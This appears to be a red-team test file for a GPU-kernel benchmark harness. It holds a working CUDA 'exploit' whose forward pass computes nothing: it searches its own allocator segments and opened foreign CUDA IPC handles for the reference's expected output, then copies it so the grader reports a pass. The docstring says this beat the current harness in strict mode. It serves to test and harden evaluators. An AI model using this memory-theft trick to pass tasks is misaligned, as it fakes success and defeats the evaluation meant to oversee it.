"""Exploit (native, CUDA): device memory theft.

The forward computes nothing. It searches device memory with a kernel for the expected output: a
position (at the caching allocator's 512-byte granularity) whose first eight floats are 2x + 1 for
this input, not the input, not its own output. It copies `numel` floats from the hit with a device
to device copy on the current stream; with no hit it returns zeros, so a pass proves the theft.
Where it searches:
- its own process's device memory: every segment PyTorch's caching allocator holds, listed by
  `torch.cuda.memory._snapshot()` called from C. In one process (the naive evaluator, today's
  harness) the reference's outputs are there: nothing separates tensors of one CUDA context;
- other processes' device memory, through CUDA IPC handles found in its own memory: every 64-byte
  `bytes` object reachable by the garbage collector's lists (what `_share_cuda_` and an arena's
  handles are kept as) is tried with `cudaIpcOpenMemHandle`; a handle that opens maps the whole
  allocation it came from (PyTorch shares the caching allocator's segment, not just the tensor,
  whose offset is sent beside it), sized with `cuMemGetAddressRange`, and the kernel searches all
  of it. A judge that hands the candidate's process an IPC handle for inputs allocated in the same
  segment as its expected outputs gives them away; scanning a readable judge's host memory for
  handle bytes (as proc_mem_scan.py does for values) finds the rest.
Task: tests/cheats/gpu/task_scale_shift_large.py (or any fp32 task: the signature is the task's).

Run once by hand on a lent GPU (not in CI): the naive evaluator reported pass (H100 and H200),
and today's harness (157a590, H200) `pass` with no flag in strict mode too: the search of its
own segments found the reference outputs. The IPC branch found no handle to open in one process
(none exists there); it is unexercised."""

import torch
from torch.utils.cpp_extension import load_inline

CUDA = r"""
#include <torch/extension.h>
#include <ATen/cuda/CUDAContext.h>
#include <dlfcn.h>
#include <cstring>
#include <set>
#include <string>
#include <vector>

struct Signature {
    float v[8];
    int k;
};

__global__ void find_kernel(const float* base, int64_t n, Signature want, const float* skip_a, const float* skip_b,
                            unsigned long long* hit) {
    for (int64_t p = blockIdx.x * (int64_t)blockDim.x + threadIdx.x; p * 128 + want.k <= n;
         p += (int64_t)gridDim.x * blockDim.x) {
        const float* at = base + p * 128;
        if (at == skip_a || at == skip_b) continue;
        bool all = true;
        for (int i = 0; i < want.k && all; ++i) all = fabsf(at[i] - want.v[i]) <= 1e-5f * (1.0f + fabsf(want.v[i]));
        if (all) atomicMin(hit, (unsigned long long)(p * 128));
    }
}

namespace {

struct Area {
    const float* base;
    int64_t n;  // floats
};

std::vector<Area> own_segments() {
    std::vector<Area> out;
    PyObject* memory = PyImport_ImportModule("torch.cuda.memory");
    PyObject* snapshot = memory ? PyObject_CallMethod(memory, "_snapshot", nullptr) : nullptr;
    PyObject* segments = snapshot ? PyDict_GetItemString(snapshot, "segments") : nullptr;
    for (Py_ssize_t i = 0; segments && i < PyList_Size(segments); ++i) {
        PyObject* s = PyList_GetItem(segments, i);
        PyObject* address = PyDict_GetItemString(s, "address");
        PyObject* size = PyDict_GetItemString(s, "total_size");
        if (address && size)
            out.push_back({reinterpret_cast<const float*>(PyLong_AsUnsignedLongLong(address)),
                           static_cast<int64_t>(PyLong_AsLongLong(size) / 4)});
    }
    Py_XDECREF(snapshot);
    Py_XDECREF(memory);
    PyErr_Clear();
    return out;
}

// 64-byte bytes objects anywhere the collector tracks: candidate IPC handles.
#if PY_VERSION_HEX >= 0x030C0000
int collect(PyObject* op, void* arg) {
    if (PyTuple_Check(op) || PyList_Check(op) || PyDict_Check(op)) {
        PyObject* seq = PyDict_Check(op) ? PyDict_Values(op) : PySequence_Fast(op, "");
        for (Py_ssize_t i = 0; seq && i < PySequence_Fast_GET_SIZE(seq); ++i) {
            PyObject* item = PySequence_Fast_GET_ITEM(seq, i);
            if (PyBytes_CheckExact(item) && PyBytes_GET_SIZE(item) == (Py_ssize_t)sizeof(cudaIpcMemHandle_t))
                static_cast<std::set<std::string>*>(arg)->insert(std::string(PyBytes_AS_STRING(item), 64));
        }
        Py_XDECREF(seq);
        PyErr_Clear();
    }
    return 1;
}
std::set<std::string> handles() {
    std::set<std::string> found;
    PyUnstable_GC_VisitObjects(collect, &found);
    return found;
}
#else
std::set<std::string> handles() { return {}; }  // see tests/cheats/native/gc_list_walk.py for 3.11
#endif

std::vector<Area> foreign_allocations() {
    static std::set<std::string> tried;
    static std::vector<Area> opened;
    using Range = int (*)(unsigned long long*, size_t*, unsigned long long);
    static Range range = reinterpret_cast<Range>(dlsym(dlopen("libcuda.so.1", RTLD_NOW), "cuMemGetAddressRange_v2"));
    for (const std::string& bytes : handles()) {
        if (!tried.insert(bytes).second || tried.size() > 4096) continue;
        cudaIpcMemHandle_t handle;
        std::memcpy(&handle, bytes.data(), sizeof handle);
        void* ptr = nullptr;
        if (cudaIpcOpenMemHandle(&ptr, handle, cudaIpcMemLazyEnablePeerAccess) != cudaSuccess) {
            cudaGetLastError();
            continue;
        }
        unsigned long long base = 0;
        size_t size = 0;
        if (range && range(&base, &size, reinterpret_cast<unsigned long long>(ptr)) == 0)
            opened.push_back({reinterpret_cast<const float*>(base), static_cast<int64_t>(size / 4)});
    }
    return opened;
}

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    x = x.contiguous();
    auto y = torch::empty_like(x);
    cudaStream_t stream = at::cuda::getCurrentCUDAStream();
    Signature want{};
    want.k = static_cast<int>(std::min<int64_t>(8, x.numel()));
    cudaMemcpyAsync(want.v, x.data_ptr<float>(), want.k * sizeof(float), cudaMemcpyDeviceToHost, stream);
    cudaStreamSynchronize(stream);
    for (int i = 0; i < want.k; ++i) want.v[i] = 2.0f * want.v[i] + 1.0f;  // the signature, not the answer
    unsigned long long* hit;
    cudaMalloc(&hit, sizeof *hit);
    bool stolen = false;
    std::vector<Area> areas = own_segments();
    for (const Area& a : foreign_allocations()) areas.push_back(a);
    for (const Area& a : areas) {
        unsigned long long none = ~0ull, at = ~0ull;
        cudaMemcpyAsync(hit, &none, sizeof none, cudaMemcpyHostToDevice, stream);
        find_kernel<<<1024, 256, 0, stream>>>(a.base, a.n, want, x.data_ptr<float>(), y.data_ptr<float>(), hit);
        cudaMemcpyAsync(&at, hit, sizeof at, cudaMemcpyDeviceToHost, stream);
        cudaStreamSynchronize(stream);
        if (at != ~0ull && static_cast<int64_t>(at) + x.numel() <= a.n) {
            cudaMemcpyAsync(y.data_ptr<float>(), a.base + at, x.nbytes(), cudaMemcpyDeviceToDevice, stream);
            stolen = true;
            break;
        }
    }
    cudaFree(hit);
    if (!stolen) cudaMemsetAsync(y.data_ptr<float>(), 0, x.nbytes(), stream);  // no theft, no answer
    return y;
}
"""

ext = load_inline(
    name="rt_native_ipc_scan",
    cpp_sources="torch::Tensor scale_shift(torch::Tensor x);",
    cuda_sources=CUDA,
    functions=["scale_shift"],
    verbose=False,
)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
